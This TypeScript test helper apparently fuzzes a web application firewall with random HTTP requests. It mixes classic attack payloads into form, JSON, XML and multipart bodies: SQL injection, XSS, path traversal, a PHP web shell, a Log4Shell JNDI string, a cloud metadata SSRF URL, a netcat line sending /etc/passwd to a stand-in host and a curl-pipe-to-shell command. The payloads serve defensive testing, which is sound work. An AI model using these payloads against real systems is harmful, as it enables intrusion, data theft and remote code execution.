import type { HttpRequest } from '../../src/mitm/waf/index.ts';
import type { Random } from './random.ts';

/** Texts that rule sets do not look for, and texts that they do. */
const PLAIN = ['garden chair', 'wooden table', '4711', 'en-GB', 'a', '2024-01-31', 'Weir Street 5'] as const;
const ATTACKS = [
  "1' OR '1'='1' -- ",
  '1 UNION SELECT user,password FROM users',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc 192.0.2.1 4444',
  '$(curl http://192.0.2.1/x.sh|sh)',
  '<?php system($_GET[0]); ?>',
  'http://169.254.169.254/latest/meta-data/',
  '\x24{jndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  '\0\u00ff\u00fe%00%u0041',
  'A'.repeat(400),
  '%25%32%35%33%43',
  '&lt;a href=&#x6a;avascript:1&gt;',
  'PHNjcmlwdD4=',
] as const;
const NAMES = ['id', 'q', 'page', 'user[name]', 'lang', 'redirect', 'x', '__proto__', 'a.b'] as const;
const AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0';

/** A whole request: of each kind that a body processor knows, with and without attacks. */
export function request(random: Random): HttpRequest {
  const kind = random.below(6);
  const [type, body] = bodyOf(kind, random);
  const query = random.once(2) ? '' : `?${form(random, 1 + random.small(12))}`;
  const headers: (readonly [string, string])[] = [
    ['Host', random.once(50) ? '192.0.2.1' : 'www.example.org'],
    ['User-Agent', random.once(30) ? 'sqlmap/1.7' : AGENT],
    ['Accept', '*/*'],
  ];
  if (random.once(2))
    headers.push(['Cookie', `session=${random.below(1 << 30)}; theme=${encoded(text(random))}`]);
  if (random.once(3)) headers.push(['Referer', `https://www.example.org/?${form(random, 2)}`]);
  if (kind !== 0) headers.push(['Content-Type', type], ['Content-Length', String(body.length)]);
  return {
    method: kind === 0 ? random.pick(['GET', 'GET', 'HEAD']) : 'POST',
    target: `/${random.once(30) ? random.pick(['.git/config', 'a%2e%2e/b']) : random.pick(['', 'shop/item', 'index.php'])}${query}`,
    protocol: 'HTTP/1.1',
    headers,
    body,
    client: { address: `192.0.2.${random.below(256)}`, port: 1024 + random.below(60_000) },
    server: { address: '198.51.100.1', port: 80 },
  };
}

/** A body processor's bodies, by number: nothing, a form, multipart, JSON, XML, text. */
export function bodyOf(kind: number, random: Random): readonly [type: string, body: string] {
  switch (kind) {
    case 1:
      return ['application/x-www-form-urlencoded', form(random, 1 + random.small(30))];
    case 2:
      return ['multipart/form-data; boundary=limit', multipart(random)];
    case 3:
      return ['application/json', JSON.stringify(json(random, 4))];
    case 4:
      return ['text/xml', `<?xml version="1.0"?>${xml(random, 4)}`];
    case 5:
      return ['text/plain', text(random)];
    default:
      return ['', ''];
  }
}

function text(random: Random): string {
  return random.once(24) ? random.pick(ATTACKS) : random.pick(PLAIN);
}

function encoded(text: string): string {
  return text.replaceAll(
    /[^\w.~-]/g,
    (character) => `%${character.charCodeAt(0).toString(16).padStart(2, '0')}`,
  );
}

function form(random: Random, pairs: number): string {
  const pair = (): string => {
    const value = text(random);
    return `${random.pick(NAMES)}=${random.once(4) ? value : encoded(value)}`;
  };
  return Array.from({ length: pairs }, pair).join('&');
}

function multipart(random: Random): string {
  const parts = Array.from({ length: 1 + random.small(5) }, () => {
    const file = random.once(3) ? `; filename="${random.pick(['a.php', 'b.jpg', '../c'])}"` : '';
    const disposition = `Content-Disposition: form-data; name="${random.pick(NAMES)}"${file}`;
    return `--limit\r\n${disposition}\r\n\r\n${text(random)}\r\n`;
  });
  return `${parts.join('')}--limit--\r\n`;
}

function json(random: Random, depth: number): unknown {
  switch (depth === 0 ? 5 : random.below(6)) {
    case 0:
      return random.below(1 << 30) / 7;
    case 1:
      return random.pick([true, false, null]);
    case 2:
      return Array.from({ length: random.small(5) }, () => json(random, depth - 1));
    case 3:
    case 4: {
      const members = Array.from({ length: random.small(5) }, () => [
        random.pick(NAMES),
        json(random, depth - 1),
      ]);
      return Object.fromEntries(members);
    }
    default:
      return text(random);
  }
}

function xml(random: Random, depth: number): string {
  const escaped = (text: string): string =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  const inside =
    depth === 0 || random.once(3)
      ? escaped(text(random))
      : Array.from({ length: random.small(4) }, () => xml(random, depth - 1)).join('');
  return `<a b="${escaped(text(random))}">${inside}</a>`;
}

/** A request from its line, headers and body. Bytes of all kinds may be anywhere. */
export function parseRequest(text: string): HttpRequest {
  const end = text.indexOf('\n\n');
  const [line = '', ...headers] = (end < 0 ? text : text.slice(0, end)).split('\n');
  const [method = '', target = '', ...protocol] = line.split(' ');
  return {
    method,
    target,
    protocol: protocol.join(' '),
    headers: headers.map((header) => {
      const colon = header.indexOf(': ');
      return colon < 0 ? [header, ''] : [header.slice(0, colon), header.slice(colon + 2)];
    }),
    body: end < 0 ? '' : text.slice(end + 2),
    client: { address: '192.0.2.7', port: 40_000 },
    server: { address: '192.0.2.1', port: 80 },
  };
}

/** A request as {@link parseRequest} reads it. */
export function requestText({ method, target, protocol, headers, body }: HttpRequest): string {
  const lines = headers.map(([name, value]) => `${name}: ${value}\n`).join('');
  return `${method} ${target} ${protocol}\n${lines}\n${body}`;
}
